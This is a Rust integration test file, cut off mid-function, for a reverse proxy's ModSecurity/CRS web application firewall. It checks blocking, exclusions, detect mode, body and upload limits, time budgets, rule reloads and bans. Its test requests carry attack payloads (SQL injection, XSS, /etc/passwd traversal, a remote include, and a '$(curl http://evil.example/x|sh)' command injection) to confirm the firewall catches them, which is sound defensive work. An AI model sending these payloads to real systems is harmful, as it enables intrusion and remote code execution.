//! The WAF end to end (`[waf.NAME]`): Debian's CRS 3.3.4 and CRS 4.28 (`tests/data/`) at
//! PL1 block an attack of each OWASP family before the origin sees it and pass a benign
//! corpus; exclusions and `detect` mode do what they say (access log, audit log,
//! metrics); a body the engine parses beyond `request_body_limit` is refused, an upload
//! of another type streams on uninspected, a multipart upload is judged whole within
//! `upload_limit`; a rule file that does not parse is named with
//! its line and rule id, and a reload meeting one keeps the running rules; pathological
//! requests cost a bounded time. The same requests through nginx + libmodsecurity:
//! `edge/waf_reference.rs`.
use super::common::origin::Origin;
use super::common::*;
use super::waf_corpus::{Case, ATTACKS, BENIGN};
use bytes::Bytes;
use http_body_util::Full;
use std::time::{Duration, Instant};

pub const CRS3: &str = r#"["/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules/*.conf"]"#;

pub fn crs4() -> String {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/crs-4.28");
    format!(r#"["{dir}/crs-setup.conf.example", "{dir}/rules/*.conf"]"#)
}

fn config(origin: &Origin, admin: u16, extra: &str) -> String {
    format!(
        "[global]\nworkers = 2\nadmin = \"127.0.0.1:{admin}\"\naccess_log = \"{{dir}}/access.log\"\nwaf = \"crs3\"\n\
         [waf.crs3]\nrules = {CRS3}\n[waf.crs4]\nrules = {}\n{extra}\n\
         [[listen]]\naddr = \"127.0.0.1:{{port}}\"\n\
         [[route]]\nhosts = [\"crs4.test\"]\nupstream = \"o\"\nwaf = \"crs4\"\n\
         [[route]]\nhosts = [\"open.test\"]\nupstream = \"o\"\nwaf = \"off\"\n\
         [[route]]\nhosts = [\"detect.test\"]\nupstream = \"o\"\nwaf = \"detect\"\n\
         [[route]]\npath = \"/\"\nupstream = \"o\"\n\
         [upstream.o]\nservers = [\"{}\"]\n",
        crs4(),
        origin.addr
    )
}

const DETECT: &str =
    "[waf.detect]\nrules = RULES\nmode = \"detect\"\nexclusions = [{ rule = 942100, path = \"/search\" }]\n";

/// The status of `case` sent to host `host`, and whether the origin saw it.
async fn through(fc: &Forecourt, origin: &Origin, case: &Case, host: &str) -> (u16, bool) {
    let before = origin.hits();
    let reply = send(&client(), case.request(&fc.url(""), host)).await;
    (reply.status, origin.hits() > before)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_owasp_family_is_blocked_before_the_origin_and_benign_traffic_passes_with_crs_3_and_4() {
    let origin = Origin::start("o");
    let admin = free_port();
    let fc = start(&config(&origin, admin, &DETECT.replace("RULES", CRS3)));
    let mut wrong = Vec::new();
    for host in ["crs3.test", "crs4.test"] {
        for case in ATTACKS {
            let (status, reached) = through(&fc, &origin, case, host).await;
            // 400 for a body an application could read otherwise (ModSecurity's 200003
            // asks for it) or an XML body whose entities are refused (200002), 403 for the
            // rest.
            let body_error = ["multipart", "xxe", "xml"].iter().any(|p| case.name.starts_with(p));
            let refused = status == 403 || (status == 400 && body_error);
            if !refused || reached {
                wrong.push(format!("{host}: attack `{}` got {status}, origin reached: {reached}", case.name));
            }
        }
        for case in BENIGN {
            let (status, reached) = through(&fc, &origin, case, host).await;
            if status != 200 || !reached {
                wrong.push(format!("{host}: benign `{}` got {status}", case.name));
            }
        }
    }
    assert!(wrong.is_empty(), "{}\n{}", wrong.join("\n"), fc.stdout());
    // Over HTTP/2 (h2c) too: the head judged at once (END_STREAM on its headers), a
    // body in the body phase; the Host is the request's authority.
    for case in [&ATTACKS[0], &ATTACKS[3], &BENIGN[0], &BENIGN[8]] {
        let reply = send(&h2c_client(), case.request(&fc.url(""), "crs3.test")).await;
        let expected = if case.name.starts_with("sqli") { 403 } else { 200 };
        assert_eq!(reply.status, expected, "h2: {}", case.name);
    }
    // A route with `waf = "off"` is not inspected.
    assert_eq!(through(&fc, &origin, &ATTACKS[0], "open.test").await, (200, true));
    // The answer is the catalogue's: the request id, never the rule.
    let reply = send(&client(), ATTACKS[0].request(&fc.url(""), "crs3.test")).await;
    let id = reply.header("x-request-id").to_string();
    assert!(reply.body.contains(&id) && !reply.body.contains("942100"), "{}", reply.body);
    let json = send(&client(), {
        let mut r = ATTACKS[0].request(&fc.url(""), "crs3.test");
        r.headers_mut().insert("accept", "application/json".parse().unwrap());
        r
    })
    .await;
    assert!(json.body.contains("\"error\":\"waf_blocked\""), "{}", json.body);
    // Logged with the rules, the variable and the score; counted.
    assert!(eventually(Duration::from_secs(2), || access_log(&fc).contains(&id)));
    let line = access_log(&fc).lines().find(|l| l.contains(&id)).unwrap().to_string();
    assert!(line.contains("\"waf\":\"blocked\"") && line.contains("942100") && line.contains("949110"), "{line}");
    assert!(line.contains("\"waf_match\":\"ARGS:q\"") && line.contains("\"waf_score\""), "{line}");
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    let blocked = 2.0 * ATTACKS.len() as f64 + 4.0; // and two over h2c, two to see the answer
    assert_eq!(metric(&metrics, "forecourt_waf_blocked_requests_total"), blocked, "{metrics}");
    assert!(metric(&metrics, "forecourt_waf_blocked_total{rule=\"942100\"}") >= 4.0);
    assert!(metric(&metrics, "forecourt_waf_evaluations_total") >= 2.0 * (ATTACKS.len() + BENIGN.len()) as f64);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_and_detect_mode_do_what_they_say() {
    let origin = Origin::start("o");
    let admin = free_port();
    let dir = TempDir::new("waf-audit");
    let audit = dir.path("audit.json");
    // A plugin's exclusion file, as CRS plugins ship them (a `-before.conf` between
    // crs-setup and the rules): the SQL injection rules are off under /wiki; refusals
    // under /quiet stay out of the audit log (`ctl:auditEngine=Off`).
    let plugin = dir.file(
        "wiki-rule-exclusions-before.conf",
        "SecRule REQUEST_FILENAME \"@beginsWith /wiki\" \"id:9500010,phase:1,pass,nolog,ctl:ruleRemoveByTag=attack-sqli\"\n\
         SecRule REQUEST_FILENAME \"@beginsWith /quiet\" \"id:9500011,phase:1,pass,nolog,ctl:auditEngine=Off\"\n\
         SecRule REQUEST_FILENAME \"@beginsWith /teapot\" \"id:9500012,phase:1,deny,status:418\"\n\
         SecRule REQUEST_FILENAME \"@beginsWith /moved\" \"id:9500013,phase:1,redirect:https://example.com/blocked\"\n",
    );
    let rules = CRS3.replacen(", ", &format!(", \"{plugin}\", "), 1);
    let extra = DETECT.replace("RULES", CRS3)
        + "[lists.own_scanner]\ncidrs = [\"127.0.0.9\"]\n"
        + &format!("[waf.excluding]\nrules = {rules}\naudit_log = \"{audit}\"\nexempt_clients = [\"own_scanner\"]\nexclusions = [{{ rule = 942100, path = \"/search\" }}, {{ rule = \"941100-941199\", remove = true }}, {{ rule = 930120, target = \"ARGS:file\" }}, {{ rule = 932160, target = \"ARGS:file\" }}, \
         {{ tag = \"attack-rfi\" }}, {{ tag = \"attack-lfi\", path = \"/docs\", target = \"ARGS:path\" }}, \
         {{ tag = \"attack-rce\", path = \"/docs\", target = \"ARGS:path\" }}, \
         {{ rule = \"932000-932999\", path = \"/shell\", target = \"ARGS:cmd\" }}]\n");
    let fc = start(&config(&origin, admin, &extra).replace("waf = \"crs3\"", "waf = \"excluding\""));
    let sqli = |target: &'static str| Case { name: "sqli", method: "GET", target, body: None, headers: &[] };
    // 942100 (libinjection) is the only PL1 rule this payload trips: off on /search only.
    let payload_on = |path| format!("{path}?q=1%27%20OR%20%271%27%3D%271");
    let on_search: &'static str = Box::leak(payload_on("/search").into_boxed_str());
    let elsewhere: &'static str = Box::leak(payload_on("/items").into_boxed_str());
    assert_eq!(through(&fc, &origin, &sqli(on_search), "crs3.test").await, (200, true));
    assert_eq!(through(&fc, &origin, &sqli(elsewhere), "crs3.test").await.0, 403);
    // The operator's own scanner is not inspected (`exempt_clients`).
    let before = origin.hits();
    let scanned = send(&client_from("127.0.0.9"), sqli(elsewhere).request(&fc.url(""), "crs3.test")).await;
    assert_eq!((scanned.status, origin.hits()), (200, before + 1), "exempt");
    assert!(eventually(Duration::from_secs(2), || access_log(&fc).contains("\"waf\":\"exempt\"")));
    // The exclusion holds for the path as routes and the backend read it, and no further
    // (a path that climbs out of it is /items; CRS's 930 rules refuse the `..` too).
    for (path, status) in [("/%73earch", 200), ("//search", 200), ("/search/../items", 403), ("/%2573earch", 403)] {
        let target: &'static str = Box::leak(payload_on(path).into_boxed_str());
        assert_eq!(through(&fc, &origin, &sqli(target), "crs3.test").await.0, status, "{path}");
    }
    // A rule's own status, and its redirect.
    assert_eq!(through(&fc, &origin, &sqli("/teapot"), "crs3.test").await, (418, false));
    let mut teapot = sqli("/teapot").request(&fc.url(""), "crs3.test");
    teapot.headers_mut().insert("accept", "application/json".parse().unwrap());
    let teapot = send(&client(), teapot).await;
    assert!(
        teapot.body.contains("\"error\":\"waf_blocked\""),
        "the WAF's refusal for bans and metrics: {}",
        teapot.body
    );
    let moved = send(&client(), sqli("/moved").request(&fc.url(""), "crs3.test")).await;
    assert_eq!((moved.status, moved.header("location")), (302, "https://example.com/blocked"));
    let quietly: &'static str = Box::leak(payload_on("/quiet").into_boxed_str());
    assert_eq!(through(&fc, &origin, &sqli(quietly), "crs3.test").await.0, 403, "refused, not audited");
    let in_the_wiki: &'static str = Box::leak(payload_on("/wiki/page").into_boxed_str());
    assert_eq!(through(&fc, &origin, &sqli(in_the_wiki), "crs3.test").await, (200, true), "the plugin's exclusion");
    // The XSS rules removed everywhere (941100-941199); a targeted exclusion spares one
    // argument only.
    let xss = sqli("/comment?text=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(through(&fc, &origin, &xss, "crs3.test").await.0, 200);
    let lfi_in_file = sqli("/dl?file=/etc/passwd");
    let lfi_in_path = sqli("/dl?path=/etc/passwd");
    assert_eq!(through(&fc, &origin, &lfi_in_file, "crs3.test").await.0, 200);
    assert_eq!(through(&fc, &origin, &lfi_in_path, "crs3.test").await.0, 403);
    // By tag: CRS's RFI rules everywhere; the LFI and RCE rules for one argument on /docs
    // (the same argument elsewhere, and another one there, are still inspected).
    let rfi = sqli("/page?include=http://198.51.100.7/shell.txt?");
    assert_eq!(through(&fc, &origin, &rfi, "crs3.test").await, (200, true), "attack-rfi excluded");
    // A range of ids for one argument on a path (`ctl:ruleRemoveTargetById` with a range,
    // which libmodsecurity 3.0.9 honours only for the range's first id).
    for (target, status) in [
        ("/docs/a?path=/etc/passwd", 200),
        ("/docs/a?file2=/etc/passwd", 403),
        ("/shell?cmd=%24(curl%20http://evil.example/x%7Csh)", 200),
        ("/shell?host=%24(curl%20http://evil.example/x%7Csh)", 403),
        ("/other?cmd=%24(curl%20http://evil.example/x%7Csh)", 403),
    ] {
        assert_eq!(through(&fc, &origin, &sqli(target), "crs3.test").await.0, status, "{target}");
    }
    // detect: everything passes, what would have been blocked is recorded.
    for case in ATTACKS {
        let (status, reached) = through(&fc, &origin, case, "detect.test").await;
        assert!(status != 403 && reached, "{}: {status}", case.name);
    }
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    // The exclusion on /search applies in detect mode too: one attack there is not counted.
    assert!(metric(&metrics, "forecourt_waf_would_block_total") >= ATTACKS.len() as f64 - 1.0, "{metrics}");
    assert!(eventually(Duration::from_secs(2), || access_log(&fc).contains("\"waf\":\"would_block\"")));
    let audit_text = std::fs::read_to_string(&audit).unwrap();
    let entry: serde_json::Value = serde_json::from_str(audit_text.lines().next().unwrap()).unwrap();
    assert_eq!(entry["action"], "blocked");
    assert_eq!(entry["waf"], "excluding");
    assert!(entry["rules"].as_array().unwrap().iter().any(|r| r == "942100"), "{entry}");
    assert!(!audit_text.contains("/quiet"), "{audit_text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_are_inspected_within_their_limit_and_uploads_stream_on() {
    let origin = Origin::start("o");
    let admin = free_port();
    // The site takes uploads: CRS 3.3's content-type policy (920420) allows no
    // application/octet-stream by default; a rule file of the site's, between crs-setup
    // and the rules, says so as crs-setup.conf's rule 900220 would.
    let dir = TempDir::new("waf-uploads");
    let policy = dir.file(
        "uploads.conf",
        "SecAction \"id:900220,phase:1,nolog,pass,t:none,setvar:'tx.allowed_request_content_type=\
         |application/x-www-form-urlencoded| |multipart/form-data| |application/json| |application/octet-stream|'\"\n",
    );
    let rules = CRS3.replacen(", ", &format!(", \"{policy}\", "), 1);
    let extra = format!("[waf.small]\nrules = {rules}\nrequest_body_limit = \"8k\"\n[waf.lenient]\nrules = {rules}\nrequest_body_limit = \"8k\"\nbody_over_limit = \"pass\"\n");
    let text = config(&origin, admin, &extra)
        .replace("waf = \"detect\"", "waf = \"lenient\"")
        .replace("waf = \"crs3\"", "waf = \"small\"");
    let fc = start(&text);
    let post = |host: &str, content_type: &str, body: Vec<u8>| {
        http::Request::post(fc.url("/up"))
            .header("host", host)
            .header("content-type", content_type)
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .body(Full::new(Bytes::from(body)))
            .unwrap()
    };
    let long_form = format!("note={}", "a".repeat(16 * 1024)).into_bytes();
    assert_eq!(
        send(&client(), post("crs3.test", "application/x-www-form-urlencoded", long_form.clone())).await.status,
        413
    );
    assert_eq!(send(&client(), post("detect.test", "application/x-www-form-urlencoded", long_form)).await.status, 200);
    // An attack within the limit is seen in the body.
    let attack = b"q=1%27%20OR%20%271%27%3D%271".to_vec();
    assert_eq!(send(&client(), post("crs3.test", "application/x-www-form-urlencoded", attack)).await.status, 403);
    // The inspection budget counts the rules' time, not the body's: a form that takes
    // longer than the budget (50 ms) to arrive is judged, not refused.
    {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let form = "comment=a+slow+but+harmless+form&rating=5";
        let head = format!(
            "POST /slow HTTP/1.1\r\nHost: crs3.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            form.len()
        );
        let mut stream = tokio::net::TcpStream::connect(fc.addr()).await.unwrap();
        stream.write_all(format!("{head}{}", &form[..10]).as_bytes()).await.unwrap();
        tokio::time::sleep(Duration::from_millis(300)).await;
        stream.write_all(&form.as_bytes()[10..]).await.unwrap();
        let mut answer = String::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_string(&mut answer)).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    }
    // A body of a type with no argument parser is still REQUEST_BODY to the rules.
    let raw = b"payload: java.lang.Runtime.getRuntime().exec(cmd)".to_vec();
    assert_eq!(send(&client(), post("crs3.test", "application/octet-stream", raw)).await.status, 403);
    // Twelve concurrent 10 MiB uploads of a type the engine does not parse: not parsed,
    // not held (the origin counts every byte), and memory stays bounded.
    let before = rss_kib(&fc);
    let uploader = client();
    let uploads = (0..12).map(|_| send(&uploader, post("crs3.test", "application/octet-stream", vec![b'x'; 10 << 20])));
    let replies = futures_util::future::join_all(uploads).await;
    assert!(replies.iter().all(|r| r.status == 200), "{:?}", replies.iter().map(|r| r.status).collect::<Vec<_>>());
    let grown_mib = rss_kib(&fc).saturating_sub(before) / 1024;
    assert!(rss_kib(&fc) / 1024 < 256, "RSS {} MiB after the uploads (grew {grown_mib} MiB)", rss_kib(&fc) / 1024);
}

/// A multipart upload as a browser sends a photo: `title`, the file (`size` bytes that
/// look random, as a JPEG's do), then `album`.
fn photo_upload(size: usize, album: &str) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let photo: Vec<u8> = (0..size)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect();
    let mut body = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photo\r\n--XyZ\r\n\
        Content-Disposition: form-data; name=\"photo\"; filename=\"IMG_2041.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
        .to_vec();
    body.extend_from_slice(&photo);
    body.extend_from_slice(
        format!("\r\n--XyZ\r\nContent-Disposition: form-data; name=\"album\"\r\n\r\n{album}\r\n--XyZ--\r\n").as_bytes(),
    );
    body
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_read_whole_and_judged_within_their_own_limit() {
    let origin = Origin::start("o");
    let admin = free_port();
    let extra = "[waf.uploads]\nrules = RULES\nrequest_body_limit = \"8k\"\nupload_limit = \"2m\"\n\
                 upload_memory = \"2m\"\nupload_wait = \"2s\"\n"
        .replace("RULES", CRS3);
    let fc = start(&config(&origin, admin, &extra).replace("waf = \"detect\"", "waf = \"uploads\""));
    let post = |host: &str, body: Vec<u8>| {
        http::Request::post(fc.url("/photos"))
            .header("host", host)
            .header("content-type", "multipart/form-data; boundary=XyZ")
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .body(Full::new(Bytes::from(body)))
            .unwrap()
    };
    // The default policy: a 1.5 MiB photo is past `request_body_limit` (1 MiB), within
    // `upload_limit` (12,800 KiB, ModSecurity's as Debian ships it): inspected whole and
    // passed, every byte reaching the origin (it was a 413 before).
    let photo = photo_upload(1536 << 10, "Summer 2026");
    let reply = send(&client(), post("crs3.test", photo.clone())).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    assert!(reply.body.contains(&format!("body-bytes={}", photo.len())), "{}", reply.body);
    // A field after the file is judged as one before it is.
    let before = origin.hits();
    let attack = photo_upload(1536 << 10, "1' OR '1'='1' --");
    assert_eq!(send(&client(), post("crs3.test", attack)).await.status, 403);
    assert_eq!(origin.hits(), before, "the origin never saw it");
    // A policy of 8 KiB and 2 MiB: the same photo passes; a longer one is past the upload
    // limit; an upload whose data other than files is past 8 KiB is past the body limit.
    assert_eq!(send(&client(), post("detect.test", photo)).await.status, 200);
    assert_eq!(send(&client(), post("detect.test", photo_upload(3 << 20, "Summer 2026"))).await.status, 413);
    let long_note = photo_upload(1024, &"a long caption ".repeat(1_000));
    assert_eq!(send(&client(), post("detect.test", long_note)).await.status, 413);
    assert_eq!(origin.hits(), before + 1);
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    assert_eq!(metric(&metrics, "forecourt_waf_body_over_limit_total"), 2.0, "{metrics}");

    // The policy's uploads share 2 MiB of room (`upload_memory`). A slow upload of 1.5 MiB
    // holds most of it; the next waits, its body unread, and goes on when the first is done.
    let photo = photo_upload(1536 << 10, "Summer 2026");
    let slow = slow_upload(&fc, "detect.test", &photo).await;
    let (uploader, second) = (client(), post("detect.test", photo.clone()));
    let waiting = tokio::spawn(async move { send(&uploader, second).await });
    let metrics_url = format!("http://127.0.0.1:{admin}/metrics");
    for _ in 0..50 {
        if metric(&get(&metrics_url).await.body, "forecourt_waf_upload_waits_total") == 1.0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(!waiting.is_finished(), "no room yet");
    assert_eq!(slow.finish(&photo).await, 200);
    assert_eq!(waiting.await.unwrap().status, 200, "the room came when the first was done");
    // One that finds no room in time (`upload_wait`) is told to come back, and never forwarded.
    let before = origin.hits();
    let slow = slow_upload(&fc, "detect.test", &photo).await;
    let busy = send(&client(), post("detect.test", photo.clone())).await;
    assert_eq!((busy.status, busy.header("retry-after")), (503, "2"), "{}", busy.body);
    assert_eq!(origin.hits(), before);
    drop(slow);
    let metrics = get(&metrics_url).await.body;
    assert_eq!(metric(&metrics, "forecourt_waf_upload_waits_total"), 2.0, "{metrics}");
    assert_eq!(metric(&metrics, "forecourt_waf_upload_no_room_total"), 1.0, "{metrics}");
    assert_eq!(metric(&metrics, "forecourt_local_responses_total{reason=\"busy\"}"), 1.0, "{metrics}");
}

/// An upload whose client sent its head and the first 64 KiB of `body`, then paused.
struct SlowUpload(tokio::net::TcpStream);

async fn slow_upload(fc: &Forecourt, host: &str, body: &[u8]) -> SlowUpload {
    use tokio::io::AsyncWriteExt;
    let head = format!(
        "POST /photos HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
         Content-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let mut stream = tokio::net::TcpStream::connect(fc.addr()).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&body[..64 << 10]).await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await; // for its head to be read and its room held
    SlowUpload(stream)
}

impl SlowUpload {
    /// Sends the rest of `body`: the answer's status.
    async fn finish(mut self, body: &[u8]) -> u16 {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        self.0.write_all(&body[64 << 10..]).await.unwrap();
        let mut answer = String::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), self.0.read_to_string(&mut answer)).await;
        answer.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0)
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pathological_requests_cost_a_bounded_time() {
    let origin = Origin::start("o");
    let admin = free_port();
    // Two policies with a budget of one millisecond, which 10,000 arguments exceed: one
    // refuses what it could not finish, one passes it.
    let extra = format!(
        "[waf.tight]\nrules = {CRS3}\ninspection_budget = \"1ms\"\n\
         [waf.lenient]\nrules = {CRS3}\ninspection_budget = \"1ms\"\nover_budget = \"pass\"\n"
    );
    let text = config(&origin, admin, &extra)
        .replace("waf = \"detect\"", "waf = \"tight\"")
        .replace("waf = \"off\"", "waf = \"lenient\"");
    let fc = start(&text);
    let many_args: String = (0..10_000).map(|i| format!("a{i}=v{i}")).collect::<Vec<_>>().join("&");
    let deep_json = format!("{}1{}", "[".repeat(5_000), "]".repeat(5_000));
    let multipart_headers = format!(
        "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nX-Pad: {}\r\n\r\nhello\r\n--XyZ--\r\n",
        "b".repeat(60_000)
    );
    let bait = format!("q={}!", "a".repeat(50_000));
    let bodies: [(&str, String); 4] = [
        ("application/x-www-form-urlencoded", many_args),
        ("application/json", deep_json),
        ("multipart/form-data; boundary=XyZ", multipart_headers),
        ("application/x-www-form-urlencoded", bait),
    ];
    let form = |host: &str, body: &str| {
        http::Request::post(fc.url("/p"))
            .header("host", host)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Full::new(Bytes::from(body.to_string())))
            .unwrap()
    };
    assert_eq!(send(&client(), form("detect.test", &bodies[0].1)).await.status, 403, "over budget: refused");
    assert_eq!(send(&client(), form("open.test", &bodies[0].1)).await.status, 200, "over budget: passed");
    let metrics = get(&format!("http://127.0.0.1:{admin}/metrics")).await.body;
    assert_eq!(metric(&metrics, "forecourt_waf_over_budget_total"), 2.0, "{metrics}");
    for (content_type, body) in bodies {
        let started = Instant::now();
        let req = http::Request::post(fc.url("/p"))
            .header("host", "crs3.test")
            .header("content-type", content_type)
            .body(Full::new(Bytes::from(body)))
            .unwrap();
        let reply = send(&client(), req).await;
        // Refused (a body past the limit, one that does not parse, one that took the whole
        // budget) or passed: an answer, in bounded time. Debug build, two cores: generous.
        assert!(started.elapsed() < Duration::from_secs(3), "{content_type}: {:?}", started.elapsed());
        assert!([200, 400, 403, 413].contains(&reply.status), "{content_type}: {}", reply.status);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rule_that_does_not_parse_is_named_and_a_reload_keeps_the_running_rules() {
    let origin = Origin::start("o");
    let admin = free_port();
    let dir = TempDir::new("waf-bad-rule");
    let good = dir.file(
        "local.conf",
        "SecRule ARGS \"@contains forbidden\" \"id:10001,phase:2,deny,status:403,log,severity:2\"\n",
    );
    let bad_text =
        "# local rules\nSecRule ARGS \"@contains forbidden\" \\\n    \"id:10002,\\\n    phase:2,\\\n    explode\"\n";
    let text = |rules: &str| {
        format!(
            "[global]\nadmin = \"127.0.0.1:{admin}\"\naccess_log = \"off\"\nwaf = \"local\"\n[waf.local]\nrules = [\"{rules}\"]\n\
             [[listen]]\naddr = \"127.0.0.1:{{port}}\"\n[[route]]\npath = \"/\"\nupstream = \"o\"\n[upstream.o]\nservers = [\"{}\"]\n",
            origin.addr
        )
    };
    let mut fc = start(&text(&good));
    assert_eq!(get(&fc.url("/?x=forbidden")).await.status, 403);
    assert_eq!(get(&fc.url("/?x=fine")).await.status, 200);
    // `forecourt check` names the rule file, the line its rule starts on, and the id.
    let bad = dir.file("broken.conf", bad_text);
    let config = dir.file("forecourt.toml", &text(&bad).replace("{port}", "1"));
    let said = check_refuses(&config);
    assert!(said.contains(&format!("{bad}:2")) && said.contains("rule 10002") && said.contains("explode"), "{said}");
    assert!(said.contains("forecourt.toml:"), "the config's own place too: {said}");
    // A reload meeting it is refused; the running rules keep blocking.
    fc.rewrite(&generous(&text(&bad)));
    let reload = http_post(&format!("http://127.0.0.1:{admin}/reload")).await;
    assert_ne!(reload.status, 200, "{}", reload.body);
    assert_eq!(get(&fc.url("/?x=forbidden")).await.status, 403);
    // Back to the good rules: the ruleset the running config holds is kept, not compiled
    // again (one "loaded" line in all).
    fc.rewrite(&generous(&text(&good)));
    assert_eq!(http_post(&format!("http://127.0.0.1:{admin}/reload")).await.status, 200);
    assert_eq!(get(&fc.url("/?x=forbidden")).await.status, 403);
    assert_eq!(fc.stderr().matches("WAF rules loaded").count() + fc.stdout().matches("WAF rules loaded").count(), 1);
    fc.wait_exit(Duration::ZERO);
}

/// Debian's own entry to its CRS package (`owasp-crs.load`: its set-up in /etc, the
/// operator's optional exclusion files, the rules) loads as a rules entry and blocks; an
/// `Include` that names no file is an error at its line, as in ModSecurity, where before
/// it loaded nothing in silence.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn debians_crs_entry_file_loads_and_an_include_of_nothing_is_named() {
    let origin = Origin::start("o");
    let admin = free_port();
    let text = |rules: &str| {
        format!(
            "[global]\nadmin = \"127.0.0.1:{admin}\"\naccess_log = \"off\"\nwaf = \"crs\"\n[waf.crs]\nrules = [\"{rules}\"]\n\
             [[listen]]\naddr = \"127.0.0.1:{{port}}\"\n[[route]]\npath = \"/\"\nupstream = \"o\"\n\
             [upstream.o]\nservers = [\"{}\"]\n",
            origin.addr
        )
    };
    let fc = start(&text("/usr/share/modsecurity-crs/owasp-crs.load"));
    assert_eq!(get(&fc.url("/?id=1%27%20or%201=1--")).await.status, 403);
    assert_eq!(get(&fc.url("/?q=fish%20and%20chips")).await.status, 200);

    let dir = TempDir::new("waf-include-nothing");
    let rules = dir.file("local.conf", "SecRuleEngine On\nInclude /etc/modsecurity/crs/crs-setup.con\n");
    let config = dir.file("forecourt.toml", &text(&rules).replace("{port}", "1"));
    let said = check_refuses(&config);
    assert!(said.contains(&format!("{rules}:2")) && said.contains("crs-setup.con` names no file"), "{said}");
}

/// What `forecourt check` says of `config`, which it must refuse.
fn check_refuses(config: &str) -> String {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_forecourt"))
        .args(["check", "--config", config])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{said}");
    said
}

async fn http_post(url: &str) -> Reply {
    send(&client(), http::Request::post(url).body(Full::default()).unwrap()).await
}

/// Starts Forecourt with `config`, every WAF policy that sets no `inspection_budget` given
/// ten seconds: the 50 ms default is for release builds, and a debug build beside the
/// other tests on two cores can take longer than that on CRS (a request over budget is
/// refused: a flaky test). The budget's own test sets its own.
pub fn start(config: &str) -> Forecourt {
    Forecourt::start(&generous(config))
}

fn generous(config: &str) -> String {
    let mut out = String::new();
    for table in config.split_inclusive("\n[").collect::<Vec<_>>() {
        let is_waf = table.starts_with("waf.") || table.starts_with("[waf.");
        match is_waf && !table.contains("inspection_budget") {
            true => match table.strip_suffix("\n[") {
                Some(body) => out.push_str(&format!("{body}\ninspection_budget = \"10s\"\n[")),
                None => out.push_str(&format!("{}\ninspection_budget = \"10s\"\n", table.trim_end_matches('\n'))),
            },
            false => out.push_str(table),
        }
    }
    out
}

fn access_log(fc: &Forecourt) -> String {
    std::fs::read_to_string(fc.dir.path("access.log")).unwrap_or_default()
}

/// The resident memory of the Forecourt process (KiB).
fn rss_kib(fc: &Forecourt) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", fc.child.id())).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bans_count_the_wafs_refusals() {
    let origin = Origin::start("o");
    let admin = free_port();
    let bans =
        "[bans]\nduration = \"1h\"\n[bans.rules.attackers]\non = [\"waf_blocked\"]\ncount = 3\nwindow = \"1m\"\n";
    let fc = start(&config(&origin, admin, &(DETECT.replace("RULES", CRS3) + bans)));
    // Three refused attacks then an ordinary request, pipelined on one connection (a
    // banned address's new connections are closed at accept): the fourth is the ban's.
    let attack = "GET /search?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: crs3.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
    let ordinary = "GET /index.html HTTP/1.1\r\nHost: crs3.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n";
    let answers = pipelined_from("127.0.0.7", fc.addr(), format!("{}{ordinary}", attack.repeat(3)).as_bytes()).await;
    assert_eq!(statuses(&answers), [403, 403, 403, 403], "{answers}");
    assert_eq!(answers.matches("looks like an attack").count(), 3, "{answers}");
    assert!(answers.contains("refused for a while"), "the fourth is the ban's: {answers}");
    assert_eq!(through(&fc, &origin, &BENIGN[0], "crs3.test").await, (200, true), "other clients are served");
}

/// What a connection from `local` gets back for the pipelined requests `data`, read until
/// the server closes it (the last request asks it to): up to 20 s, as a debug build beside
/// the other tests may be slow.
async fn pipelined_from(local: &str, addr: std::net::SocketAddr, data: &[u8]) -> String {
